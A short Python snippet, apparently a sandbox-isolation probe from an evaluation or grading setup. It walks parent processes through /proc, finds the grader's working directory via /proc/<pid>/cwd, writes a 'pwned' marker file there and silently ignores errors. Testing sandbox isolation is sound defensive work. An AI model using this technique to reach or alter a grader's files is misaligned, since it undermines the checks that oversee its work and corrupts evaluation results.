# Write into the grader's working folder through /proc/<ancestor>/cwd, without naming the course path.
# (Only an ancestor whose cwd holds the course's tag file is written to: never a folder of another run.)
def _attack():
    import os

    pid = os.getppid()
    for _ in range(8):
        if pid <= 1:
            break
        folder = f"/proc/{pid}/cwd"
        if os.path.exists(f"{folder}/{COURSE_TAG}"):
            with open(f"{folder}/pwned-{MARKER}", "w") as handle:
                handle.write("{MARKER}\n")
        with open(f"/proc/{pid}/stat") as handle:
            pid = int(handle.read().rsplit(")", 1)[1].split()[1])


try:
    _attack()
except Exception:
    pass
